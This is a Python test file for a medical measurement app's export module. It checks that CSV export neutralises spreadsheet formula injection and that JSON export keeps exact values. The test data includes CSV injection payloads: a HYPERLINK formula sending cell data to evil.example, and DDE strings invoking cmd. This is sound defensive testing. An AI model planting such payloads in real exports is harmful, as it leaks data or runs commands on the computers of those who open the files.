"""CSV export neutralises formula-looking text (OWASP CSV injection); JSON keeps exact values.

On SQLite and on PostgreSQL (as the application role).
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from store_fixtures import lvidd_proposals

from echomeasure.export import CSV_COLUMNS, CSV_NUMERIC_COLUMNS, export_csv, neutralise_cell, render
from echomeasure.propose.types import ModelInfo

HOSTILE_NAMES = {
    "ivsd": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "lvidd": "+cmd|' /C calc'!A0",
    "lvids": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_trigger_is_neutralised(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(("text", "safe"), [("Dr X;=1+1", "Dr X;'=1+1"), ("a; -2+A1;@SUM(A1)", "a; '-2+A1;'@SUM(A1)"),
                                            ("=A1;+A2", "'=A1;'+A2")])
def test_a_trigger_after_a_semicolon_is_neutralised_for_spreadsheets_that_split_on_it(text, safe):
    assert neutralise_cell(text) == safe


@pytest.mark.parametrize("text", ["", "Reader One", "1.5", "a=b", "Dr. -x", "Smith; Jones"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_cell(text) == text


def test_csv_neutralises_text_cells_but_keeps_negative_numbers_and_json_keeps_the_exact_value(store, deidentified_clip):  # noqa: F811
    hostile_model = ModelInfo("@evil-model", "-1.0", "d" * 64)
    rec = store.add_clip(deidentified_clip)
    store.add_proposals(rec.id, lvidd_proposals(model=hostile_model))
    for measurement, name in HOSTILE_NAMES.items():
        store.add_review(rec.id, measurement, "accepted", name)
    # A value below zero (e.g. a signed Doppler velocity) must stay a number.
    store.add_review(rec.id, "lvidd", "corrected", "=A1", points=[(20, 15), (20, 41)], value=-0.8, unit="m/s")

    rows = {r["measurement"]: r for r in csv.DictReader(io.StringIO(export_csv(store)))}
    assert rows["ivsd"]["reviewer"] == "'" + HOSTILE_NAMES["ivsd"]
    assert rows["lvids"]["reviewer"] == "'" + HOSTILE_NAMES["lvids"]
    assert rows["lvidd"]["reviewer"] == "'=A1"
    assert rows["lvidd"]["value"] == "-0.8" and float(rows["lvidd"]["value"]) == -0.8
    assert rows["lvidd"]["model_name"] == "'@evil-model" and rows["lvidd"]["model_version"] == "'-1.0"
    for row in rows.values():
        for column in CSV_COLUMNS:
            cell = row[column]
            if column not in CSV_NUMERIC_COLUMNS:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            elif cell:
                float(cell)  # numeric columns hold numbers only

    history = json.loads(render(store, "json"))
    reviewers = [r["reviewer"] for r in history["clips"][0]["reviews"]]
    assert reviewers == [*HOSTILE_NAMES.values(), "=A1"]
    assert history["model_versions"][0]["name"] == "@evil-model"
